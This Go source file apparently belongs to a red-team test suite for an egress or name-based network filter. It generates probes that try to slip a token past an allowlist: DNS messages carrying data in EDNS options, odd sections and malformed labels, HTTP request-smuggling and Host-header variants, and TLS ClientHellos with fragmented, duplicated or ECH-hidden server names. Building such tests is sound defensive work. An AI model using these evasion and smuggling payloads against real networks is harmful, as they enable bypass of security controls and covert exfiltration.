package attempts

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net/netip"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// questions puts data into parts of a question that are no name, for a name that is allowed, and asks in ways that are
// rare (I-04).
func (m *maker) questions() {
	server := netip.MustParseAddrPort([]string{"198.51.100.53:53", "[2001:db8::53]:53"}[m.family])
	const allowedName = "web.test"
	pack := func(change func(q *dns.Msg)) []byte {
		q := new(dns.Msg)
		q.SetQuestion(dns.Fqdn(allowedName), dns.TypeA)
		change(q)
		b, err := q.Pack()
		if err != nil {
			panic(err) // of what is ours
		}
		return b
	}
	edns := func(option func(token []byte) dns.EDNS0) func([]byte) []byte {
		return func(token []byte) []byte {
			return pack(func(q *dns.Msg) {
				q.SetEdns0(1232, false)
				o := q.IsEdns0()
				o.Option = append(o.Option, option(token))
			})
		}
	}
	text := func(token []byte) dns.RR {
		return &dns.TXT{Hdr: dns.RR_Header{Name: "x.test.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{string(token)}}
	}
	for name, ask := range map[string]func(token []byte) []byte{
		"edns-local": edns(func(token []byte) dns.EDNS0 { return &dns.EDNS0_LOCAL{Code: 65001, Data: token} }),
		"edns-cookie": edns(func(token []byte) dns.EDNS0 {
			return &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: fmt.Sprintf("%x", token)}
		}),
		"edns-padding": edns(func(token []byte) dns.EDNS0 { return &dns.EDNS0_PADDING{Padding: token} }),
		"edns-name-server": edns(func(token []byte) dns.EDNS0 {
			return &dns.EDNS0_NSID{Code: dns.EDNS0NSID, Nsid: fmt.Sprintf("%x", token)}
		}),
		"additional": func(token []byte) []byte { return pack(func(q *dns.Msg) { q.Extra = append(q.Extra, text(token)) }) },
		"answer":     func(token []byte) []byte { return pack(func(q *dns.Msg) { q.Answer = append(q.Answer, text(token)) }) },
		"authority":  func(token []byte) []byte { return pack(func(q *dns.Msg) { q.Ns = append(q.Ns, text(token)) }) },
		"response": func(token []byte) []byte {
			return pack(func(q *dns.Msg) { q.Response, q.Answer = true, append(q.Answer, text(token)) })
		},
		"update": func(token []byte) []byte {
			return pack(func(q *dns.Msg) { q.Opcode, q.Ns = dns.OpcodeUpdate, append(q.Ns, text(token)) })
		},
		"notify": func(token []byte) []byte {
			return pack(func(q *dns.Msg) { q.Opcode, q.Answer = dns.OpcodeNotify, append(q.Answer, text(token)) })
		},
		"second-question": func(token []byte) []byte {
			return pack(func(q *dns.Msg) {
				q.Question = append(q.Question, dns.Question{Name: string(token) + ".any.test.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
			})
		},
		"class-chaos": func(token []byte) []byte {
			return pack(func(q *dns.Msg) {
				q.Question[0] = dns.Question{Name: string(token) + ".any.test.", Qtype: dns.TypeTXT, Qclass: dns.ClassCHAOS}
			})
		},
		"transfer": func(token []byte) []byte {
			return pack(func(q *dns.Msg) { q.Question[0].Name, q.Question[0].Qtype = string(token)+".any.test.", dns.TypeAXFR })
		},
		"signature": func(token []byte) []byte {
			return pack(func(q *dns.Msg) {
				q.Extra = append(q.Extra, &dns.TSIG{Hdr: dns.RR_Header{Name: string(token) + ".test.", Rrtype: dns.TypeTSIG, Class: dns.ClassANY},
					Algorithm: dns.HmacSHA256, MACSize: 32, MAC: fmt.Sprintf("%064x", 0)})
			})
		},
		"behind":    func(token []byte) []byte { return append(query(allowedName, dns.TypeA), token...) },
		"no-header": func(token []byte) []byte { return token },
		// A compressed name, whose rest stands in the header or behind the message.
		"pointer-behind": func(token []byte) []byte {
			b := query(allowedName, dns.TypeA)[:12]
			b = append(b, 0xc0, 18, 0, 1, 0, 1)
			return append(append(append(b, byte(len(token))), token...), 0)
		},
		// An allowed name with a label that holds a dot or ends early in C.
		"dot-in-label": func(token []byte) []byte { return query(string(token)+`\.web.test`, dns.TypeA) },
		"nul-in-label": func(token []byte) []byte { return query(`web.test\000.`+string(token)+".any.test", dns.TypeA) },
	} {
		way := within
		if name == "nul-in-label" || name == "dot-in-label" || name == "class-chaos" || name == "transfer" {
			way = odd // names are asked for as they are where all may be
		}
		a := m.add("dns-with-"+name+"-udp", outside, way, "udp", server, ask)
		if name == "response" { // which nobody answers
			a.Network, a.Socket = "socket", [3]int{[]int{unix.AF_INET, unix.AF_INET6}[m.family], unix.SOCK_DGRAM, 0}
		}
		m.add("dns-with-"+name+"-tcp", outside, way, "tcp", server, func(token []byte) []byte { return overTCP(ask(token)) })
	}
	// A question in pieces, and behind an allowed one.
	m.add("dns-behind-another-tcp", outside, question, "tcp", server, func(token []byte) []byte {
		return append(overTCP(query(allowedName, dns.TypeA)), overTCP(query(string(token)+".any.test", dns.TypeA))...)
	})
	a := m.add("dns-in-pieces-tcp", outside, question, "tcp", server, func(token []byte) []byte {
		return overTCP(query(string(token)+".any.test", dns.TypeA))
	})
	whole := a.Send[0]
	a.Send = [][]byte{whole[:1], whole[1:7], whole[7:30], whole[30:]} // the token is in the last two
	a.Blind = true                                                    // no packet has all of it
}

// requests shows another host in HTTP to an allowed one's address, in forms that servers and proxies read differently
// (I-25, I-30, I-32, I-34, I-37, I-39).
func (m *maker) requests() {
	web := netip.AddrPortFrom(webAddresses[m.family], 80)
	const ok = "Host: web.test\r\n"
	for name, format := range map[string]string{
		"absolute":             "GET http://%[1]s.any.test/ HTTP/1.1\r\n" + ok + "\r\n",
		"absolute-allowed":     "GET http://web.test/ HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"two-hosts":            "GET / HTTP/1.1\r\n" + ok + "Host: %[1]s.any.test\r\n\r\n",
		"folded-host":          "GET / HTTP/1.1\r\n" + ok + " %[1]s.any.test\r\n\r\n",
		"joined-hosts":         "GET / HTTP/1.1\r\nHost: web.test, %[1]s.any.test\r\n\r\n",
		"space-before-colon":   "GET / HTTP/1.1\r\n" + ok + "Host : %[1]s.any.test\r\n\r\n",
		"bare-line-feeds":      "GET / HTTP/1.1\nHost: %[1]s.any.test\n\n",
		"no-host-http-1.0":     "GET http://%[1]s.any.test/ HTTP/1.0\r\n\r\n",
		"blank-lines-first":    "\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"tabs":                 "GET\t/\tHTTP/1.1\r\nHost:\t%[1]s.any.test\r\n\r\n",
		"user-info":            "GET / HTTP/1.1\r\nHost: web.test@%[1]s.any.test\r\n\r\n",
		"odd-method":           "X-%[1]s / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"connect-inside":       "CONNECT %[1]s.any.test:443 HTTP/1.1\r\nHost: %[1]s.any.test:443\r\n\r\n",
		"smuggled-by-length":   "POST / HTTP/1.1\r\n" + ok + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"smuggled-by-chunks":   "POST / HTTP/1.1\r\n" + ok + "Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"smuggled-two-lengths": "POST / HTTP/1.1\r\n" + ok + "Content-Length: 0\r\nContent-Length: 60\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"chunk-extension":      "POST / HTTP/1.1\r\n" + ok + "Transfer-Encoding: chunked\r\n\r\n1;\nx\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"pipelined":            "GET / HTTP/1.1\r\n" + ok + "\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"behind-upgrade":       "GET / HTTP/1.1\r\n" + ok + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"behind-h2c-upgrade":   "GET / HTTP/1.1\r\n" + ok + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"proxy-header":         "PROXY TCP4 192.0.2.1 192.0.2.2 1 443\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"ssh-then-http":        "SSH-2.0-%[1]s\r\nGET / HTTP/1.1\r\nHost: %[1]s.any.test\r\n\r\n",
		"trailing-nul":         "GET / HTTP/1.1\r\nHost: web.test\x00.%[1]s.any.test\r\n\r\n",
		"percent":              "GET / HTTP/1.1\r\nHost: web%%2etest.%[1]s.any.test\r\n\r\n",
	} {
		to, way := outside, odd
		if name == "ssh-then-http" {
			to, way = allowed, stray // an SSH banner passes a name target, and servers of HTTP do not
		}
		m.add("http/"+name, to, way, "tcp", web, func(token []byte) []byte { return fmt.Appendf(nil, format, token) })
	}
	// A request whose head comes byte by byte up to the other name.
	a := m.add("http/in-pieces", outside, odd, "tcp", web, func(token []byte) []byte {
		return fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s.any.test\r\n\r\n", token)
	})
	a.Send = [][]byte{a.Send[0][:3], a.Send[0][3:18], a.Send[0][18:]}
	// Bytes that stand in the stream for one who asks for urgent data in line, and else do not.
	a = m.add("http/urgent-bytes", outside, odd, "socket", web, func(token []byte) []byte {
		return fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s.any.test\r\n\r\n", token)
	})
	a.Socket = [3]int{[]int{unix.AF_INET, unix.AF_INET6}[m.family], unix.SOCK_STREAM, 0}
	a.Send, a.Urgent = [][]byte{a.Send[0][:3], a.Send[0][3:18], a.Send[0][18:]}, true
	m.add("http2/authority", outside, odd, "tcp", web, func(token []byte) []byte {
		// An index of the static table and literals without Huffman's code, RFC 7541.
		authority := append(append([]byte{0x82, 0x84, 0x86, 0x01, byte(len(token) + 9)}, token...), ".any.test"...)
		b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		b = append(b, 0, 0, 0, 4, 0, 0, 0, 0, 0) // SETTINGS
		b = append(b, 0, 0, byte(len(authority)), 1, 5, 0, 0, 0, 1)
		return append(b, authority...)
	})
}

// hellos shows another name in TLS to an allowed one's address, where some do not look (I-27, I-28, I-29).
func (m *maker) hellos() {
	web := netip.AddrPortFrom(webAddresses[m.family], 443)
	other := func(token []byte) []byte { return clientHello(string(token) + ".any.test") }
	hello := func(name string, make func(token []byte) []byte) *Attempt {
		return m.add("tls/"+name, outside, odd, "tcp", web, make)
	}
	// One record for each few bytes of the message.
	hello("small-records", func(token []byte) []byte {
		b := other(token)
		var all []byte
		for message := b[5:]; len(message) > 0; {
			n := min(100, len(message))
			all = append(append(all, b[0], b[1], b[2], 0, byte(n)), message[:n]...)
			message = message[n:]
		}
		return all
	})
	a := hello("in-pieces", other)
	a.Send = [][]byte{a.Send[0][:4], a.Send[0][4:9], a.Send[0][9:]}
	hello("old-version", func(token []byte) []byte {
		b := other(token)
		b[1], b[2] = 3, 0
		return b
	})
	hello("behind-alert", func(token []byte) []byte { return append([]byte{21, 3, 1, 0, 2, 1, 0}, other(token)...) })
	hello("behind-empty-record", func(token []byte) []byte { return append([]byte{22, 3, 1, 0, 0}, other(token)...) })
	hello("of-ssl-2", func(token []byte) []byte {
		b := append([]byte{0x80, byte(9 + 3 + 16), 1, 3, 3, 0, 3, 0, 0, 0, 16, 0, 0, 0x2f}, make16()...)
		return append(b, token...)
	})
	hello("behind-allowed", func(token []byte) []byte { return append(clientHello("web.test"), other(token)...) }).Way = stray // both pass to one server, which takes the first
	// Two names in one list, the allowed one first, and last.
	for name, first := range map[string]bool{"allowed-name-first": true, "allowed-name-last": false} {
		hello(name, func(token []byte) []byte {
			return twoNames(token, first)
		})
	}
	// Encrypted ClientHello: the name that is meant is in it, for whoever has the key. The outer one is judged, so that
	// what stands behind an allowed one passes, and docs/redteam.md says so.
	hello("ech-behind-other", func(token []byte) []byte { return withECH(other(token), nil) })
	a = hello("ech-behind-allowed", func(token []byte) []byte { return withECH(clientHello("web.test"), token) })
	a.Whom, a.Way = allowed, stray
	hello("upper-case-and-dot", func(token []byte) []byte { return renamed(token, "WEB.TEST.", true) })
	hello("nul-in-name", func(token []byte) []byte { return renamed(token, "web.test\x00", false) })
}

func make16() []byte { return make([]byte, 16) }

// serverName finds the extension of server names (RFC 6066 §3) in a ClientHello with the name, and returns where its
// data begins.
func serverName(hello []byte, name string) int {
	return bytes.Index(hello, []byte(name)) - 5
}

// twoNames is a ClientHello whose list of names has an allowed one and another.
func twoNames(token []byte, allowedFirst bool) []byte {
	entry := func(name string) []byte {
		return append(binary.BigEndian.AppendUint16([]byte{0}, uint16(len(name))), name...)
	}
	other := string(token) + ".any.test"
	list := append(entry("web.test"), entry(other)...)
	if !allowedFirst {
		list = append(entry(other), entry("web.test")...)
	}
	return withNames(list)
}

// renamed is a ClientHello with an odd name: before, and the token's as a suffix or not at all but in ALPN.
func renamed(token []byte, before string, alone bool) []byte {
	name := before + "." + string(token) + ".any.test"
	if alone {
		name = string(token) + "." + before
	}
	return withNames(append(binary.BigEndian.AppendUint16([]byte{0}, uint16(len(name))), name...))
}

// withNames puts a list of server names into a ClientHello.
func withNames(list []byte) []byte {
	const place = "place.any.test"
	b := clientHello(place)
	at := serverName(b, place) // the length of the list, type and length of its one name
	if at < 0 {
		panic("no server name")
	}
	rest := b[at+5+len(place):]
	grow := len(list) - 3 - len(place)
	binary.BigEndian.PutUint16(b[at-2:], uint16(2+len(list))) // the extension
	b = append(binary.BigEndian.AppendUint16(b[:at:at], uint16(len(list))), list...)
	return lengthened(append(b, rest...), grow)
}

// withECH puts the extension of an outer ClientHello (RFC 9849 §5) at the end of one, with data where what is encrypted
// would be.
func withECH(hello, data []byte) []byte {
	data = append(make([]byte, 128-len(data)), data...)
	b := []byte{0, 0, 1, 0, 1, 7, 0, 32} // outer, HKDF-SHA256, AES-128-GCM, the key's number, the length of a share
	b = append(b, make([]byte, 32)...)
	b = append(binary.BigEndian.AppendUint16(b, uint16(len(data))), data...)
	extension := binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(b)))
	extension = append(extension, b...)
	return lengthened(append(hello, extension...), len(extension))
}

// lengthened says in a ClientHello that its extensions are that much longer, and so all that they are in.
func lengthened(hello []byte, by int) []byte {
	extensions := 5 + 4 + 2 + 32
	extensions += 1 + int(hello[extensions])                           // session
	extensions += 2 + int(binary.BigEndian.Uint16(hello[extensions:])) // ciphers
	extensions += 1 + int(hello[extensions])                           // compression
	for _, at := range []int{3, 7, extensions} {                       // the record; the message, of whose three bytes the first is 0
		binary.BigEndian.PutUint16(hello[at:], uint16(int(binary.BigEndian.Uint16(hello[at:]))+by))
	}
	return hello
}
